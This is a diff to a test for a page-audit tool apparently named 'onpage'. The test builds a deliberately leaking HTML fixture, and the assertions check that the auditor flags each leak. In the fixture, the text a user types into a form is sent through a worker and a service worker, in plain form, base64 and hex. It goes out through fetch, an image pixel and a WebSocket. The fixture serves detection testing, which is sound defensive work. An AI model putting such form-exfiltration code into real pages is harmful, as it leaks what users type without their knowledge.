@@ -65,10 +65,12 @@ LEAKING = """<!doctype html><meta name="application-name" content="onpage">
 <script type="module">
   const other = "http://localhost:" + location.port;
   const worker = new Worker("worker.js");
+  navigator.serviceWorker.register("service.js");
   document.querySelector("form").addEventListener("submit", (event) => {
     event.preventDefault();
     const text = document.querySelector("textarea").value;
     worker.postMessage(text);
+    navigator.serviceWorker.ready.then(({ active }) => active.postMessage(text));
     new Image().src = `${other}/pixel?${btoa(text)}`;
     new WebSocket(`ws://${location.host}/live`);
   });
@@ -76,11 +78,15 @@ LEAKING = """<!doctype html><meta name="application-name" content="onpage">
 
 
 def test_an_audit_of_a_page_that_leaks(tmp_path: Path) -> None:
-    """In a page and in a worker, to another origin and to its own, in plain and encoded."""
+    """From the page, a worker and a service worker, to another origin and to its own, in plain and encoded."""
     (tmp_path / "index.html").write_text(LEAKING)
     (tmp_path / "worker.js").write_text('onmessage = ({ data }) => fetch("collect", { method: "POST", body: data });')
+    (tmp_path / "service.js").write_text(
+        "onmessage = ({ data }) => fetch(`hidden?${[...data].map((c) => c.charCodeAt(0).toString(16)).join('')}`);"
+    )
     with file_host(tmp_path, headers=False) as host:
         done = completed([*ONPAGE, "audit", host.url, "--json"])
+        assert any(path.startswith("/hidden?") for path in host.requests)
         port = host.url.rpartition(":")[2].strip("/")
     assert done.returncode == 1, done.stdout + done.stderr
     said = json.loads(done.stdout)
@@ -93,4 +99,5 @@ def test_an_audit_of_a_page_that_leaks(tmp_path: Path) -> None:
         "plain in SOCKET_BYTES_SENT" in leak["how"] and "Your text" in leak["fields"][0]
         for leak in said["canaries"]["sent"]
     )
+    assert (host.url.rstrip("/"), "hexadecimal") in sent, "the service worker's"
     assert done.stderr.count("onpage: A typed text was sent to") == len(sent)
